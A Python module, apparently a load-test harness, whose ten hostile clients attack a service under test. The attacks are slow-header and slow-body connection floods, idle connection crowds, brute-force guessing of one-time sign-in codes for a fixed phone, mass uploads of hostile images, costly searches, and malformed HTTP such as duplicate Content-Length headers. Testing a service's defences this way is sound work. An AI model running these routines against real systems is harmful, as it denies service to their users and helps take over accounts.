"""Clients that want to stop the service, each from an address of its own: uploads, hashes, idle and slow connections, odd queries.

Each attack is a function that runs in a process of its own until it is told to end, and counts the answers. A client waits for no answer
if leaving is cheaper, and sends several times as many requests as the service allows. Its rate is limited all the same, because it shares
the processors with the attacked service: at a higher rate, a refusal would cost the client more than the service.
"""

import http.client
import json
import os
import random
import selectors
import signal
import socket
import time

# The number of connections that one idle or slow client opens; the service accepts fewer from one address.
CROWD = 1_500
# The connections that a client opens per second, and the requests that it sends per second. These are nine times and twice the rates that
# the service allows one address in the long run.
CONNECTIONS_PER_SECOND = 120
REQUESTS_PER_SECOND = 400
# The pictures that a client sends per second, one after the other. The service decodes one to four pictures at a time, depending on the
# number of its processors.
PICTURES_PER_SECOND = 20
# The size in bytes that a slow sender announces for the body of its request.
PROMISED = 8 * 1_024 * 1_024


class Client:
    """One hostile client: its address, the server that it attacks, and the answers that it got."""

    def __init__(self, address, server, sms, pictures, seed):
        self.address, self.server, self.sms, self.pictures = address, server, sms, pictures
        self.random = random.Random(seed)
        self.counts = {}
        # An event that is set when the attack begins; None where nobody waits for it.
        self.prepared = None
        self.link = None
        self.next = time.monotonic()

    def pace(self, per_second):
        """Waits so that calls come at this rate. Calls that came late are not made up for."""
        now = time.monotonic()
        self.next = max(self.next + 1 / per_second, now)
        time.sleep(self.next - now)

    def count(self, what):
        self.counts[what] = self.counts.get(what, 0) + 1

    def connect(self):
        return socket.create_connection(self.server, timeout=30, source_address=(self.address, 0))

    def ask(self, method, path, body=None, token=None, kind="application/json", extra=None):
        """Sends one request on a kept connection. Returns status and body; status 0 without an answer."""
        headers = {"Content-Type": kind} if body is not None else {}
        headers.update(extra or {})
        if token:
            headers["Authorization"] = "Bearer " + token
        try:
            if self.link is None:
                self.link = http.client.HTTPConnection(*self.server, timeout=60, source_address=(self.address, 0))
            self.link.request(method, path, body, headers)
            answer = self.link.getresponse()
            content = answer.read()
            if answer.will_close:
                self.hang_up()
            self.count(str(answer.status))
            return answer.status, content
        except (OSError, http.client.HTTPException):
            self.count("no answer")
            self.hang_up()
            return 0, b""

    def hang_up(self):
        if self.link is not None:
            self.link.close()
        self.link = None

    def sign_in(self, phone):
        """Returns an access token; None if the service refuses."""
        status, _ = self.ask("POST", "/v1/verifications", json.dumps({"phone": phone}))
        if status != 202:
            return None
        status, body = self.ask("POST", "/v1/sessions", json.dumps({"phone": phone, "code": sent_code(self.sms, phone)}))
        return json.loads(body)["accessToken"] if status == 201 else None


def sent_code(sms, phone, seconds=30):
    """The newest code that the service sent to a phone, from the service's file of messages."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with open(sms, encoding="utf-8") as file:
            lines = [line for line in file if phone in line and line.endswith("\n")]
        if lines:
            words = json.loads(lines[-1])["text"].replace(":", " ").split()
            return next(word for word in words if word.isdigit() and len(word) == 6)
        time.sleep(0.05)
    raise TimeoutError(f"no message to {phone}")


# --- The attacks, one function for each kind of client


def pictures(client, ends):
    """Uploads all hostile pictures again and again."""
    files = sorted(os.listdir(client.pictures))
    token = None
    number = client.random.randrange(10**7)
    while not ends():
        client.pace(PICTURES_PER_SECOND)
        if token is None:
            number += 1
            token = client.sign_in(f"+86139{number % 10**8:08d}")
            if token is None:
                # No further account was permitted, so this request is sent without an account.
                client.ask("POST", "/v1/images", b"x" * 65_536, kind="image/png")
                continue
        with open(os.path.join(client.pictures, client.random.choice(files)), "rb") as file:
            status, _ = client.ask("POST", "/v1/images", file.read(), token=token, kind="image/png")
        if status == 429:
            token = None


def passwords(client, ends):
    """Signs in with wrong passwords, and closes the connection before the answer."""
    while not ends():
        client.pace(CONNECTIONS_PER_SECOND)
        body = json.dumps({"phone": f"+86138{client.random.randrange(10**8):08d}", "password": "correct horse battery"})
        request = f"POST /v1/sessions HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}"
        try:
            with client.connect() as link:
                link.sendall(request.encode())
                client.count("left early")
        except OSError:
            client.count("no answer")


def codes(client, ends):
    """Requests codes for one victim's phone, and guesses them."""
    victim = "+8613700000001"
    while not ends():
        client.pace(REQUESTS_PER_SECOND / 11)
        client.ask("POST", "/v1/verifications", json.dumps({"phone": victim}))
        for _ in range(10):
            client.ask("POST", "/v1/sessions", json.dumps({"phone": victim, "code": f"{client.random.randrange(10**6):06d}"}))


def crowd(client, ends, hello, drip):
    """Holds as many connections as the service accepts. Each sends `hello`, and then `drip` once a second."""
    links, chosen = {}, selectors.DefaultSelector()

    def close(link):
        chosen.unregister(link)
        link.close()
        links.pop(link, None)

    while not ends():
        for _ in range(min(CONNECTIONS_PER_SECOND // 10, CROWD - len(links))):
            try:
                link = client.connect()
                link.sendall(hello)
                link.setblocking(False)
                links[link] = None
                chosen.register(link, selectors.EVENT_READ)
                client.count("opened")
            except OSError:
                client.count("refused")
                break
        for key, _ in chosen.select(timeout=0):
            try:
                # Answers are read, because otherwise this client would not notice that the service has closed the connection.
                if not key.fileobj.recv(65_536):
                    client.count("closed by the service")
                    close(key.fileobj)
            except OSError:
                client.count("closed by the service")
                close(key.fileobj)
        if drip:
            for link in list(links):
                try:
                    link.send(drip)
                except OSError:
                    close(link)
        time.sleep(1 if len(links) >= CROWD else 0.1)
    for link in list(links):
        link.close()


def idle(client, ends):
    """Opens connections and sends nothing."""
    crowd(client, ends, b"", b"")


def slow_heads(client, ends):
    """Sends the head of a request one byte at a time."""
    crowd(client, ends, b"GET /v1/campaigns HTTP/1.1\r\nHost: a\r\nX-Slow: ", b"a")


def slow_bodies(client, ends):
    """Signs in, announces pictures of eight megabytes, and sends one byte at a time."""
    token = client.sign_in(f"+86136{client.random.randrange(10**8):08d}")
    hello = (f"POST /v1/images HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {token}\r\n"
             f"Content-Type: image/png\r\nContent-Length: {PROMISED}\r\n\r\n").encode()
    crowd(client, ends, hello, b"a")


def queries(client, ends):
    """Sends the most expensive searches."""
    orders = ["popular", "newest", "distance"]
    while not ends():
        client.pace(REQUESTS_PER_SECOND)
        latitude, longitude = client.random.uniform(-90, 90), client.random.uniform(-180, 180)
        word = "".join(client.random.choice("ea奶茶%_*\"' ") for _ in range(client.random.randrange(1, 60)))
        path = client.random.choice([
            f"/v1/campaigns?near={latitude:.6f},{longitude:.6f}&radius=100000&sort={client.random.choice(orders)}&limit=100",
            f"/v1/campaigns?near=31.0,121.0&radius=100000&sort={client.random.choice(orders)}&limit=100",
            f"/v1/shops?near=31.0,121.0&radius=100000&limit=100&q={encoded(word)}",
            f"/v1/campaigns?q={encoded(word)}&limit=100",
            f"/v1/campaigns?cursor={encoded(word)}",
        ])
        client.ask("GET", path)


def junk(client, ends):
    """Sends bytes that are not HTTP, or barely."""
    kinds = [
        lambda: client.random.randbytes(2_048),
        lambda: b"GET / HTTP/1.1\r\n" + b"X: " + b"a" * 100_000 + b"\r\n\r\n",
        lambda: b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n" * 500,
        lambda: b"POST /v1/stamps HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF\r\n",
        lambda: b"GET /v1/campaigns HTTP/1.1\r\nHost: a\r\nHost: b\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
        lambda: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 1_000,
    ]
    while not ends():
        client.pace(CONNECTIONS_PER_SECOND)
        try:
            with client.connect() as link:
                link.settimeout(5)
                link.sendall(client.random.choice(kinds)())
                link.shutdown(socket.SHUT_WR)
                while link.recv(65_536):
                    pass
                client.count("closed by the service")
        except OSError:
            client.count("no answer")


def encoded(text):
    return "".join(f"%{byte:02X}" for byte in text.encode())


# The outcomes that show that an attack took place. For each attack, at least one of its outcomes must have occurred.
SIGNS = {
    "pictures": ["201"], "passwords": ["left early"], "codes": ["202"], "idle": ["opened"], "slow_heads": ["opened"],
    "slow_bodies": ["201"], "queries": ["200"], "junk": ["closed by the service"],
}

# The attacks of the ten clients. Two clients send pictures, and two send passwords.
ALL = [pictures, pictures, passwords, passwords, codes, idle, slow_heads, slow_bodies, queries, junk]


def run(attack, client, results):
    """The work of a hostile client's process: attacks until SIGTERM, then reports the answers that the client got.

    It gets only the processor time that the service and the honest clients leave: a hostile client's own machine would take none of theirs.
    A nice process would still finish its slice of some milliseconds when the service wakes up.
    """
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    over = []
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    signal.signal(signal.SIGTERM, lambda *_: over.append(True))
    if attack.__name__ in SIGNS and client.prepared:
        client.prepared.set()
    try:
        attack(client, lambda: bool(over))
    finally:
        results.put((attack.__name__, client.address, client.counts))
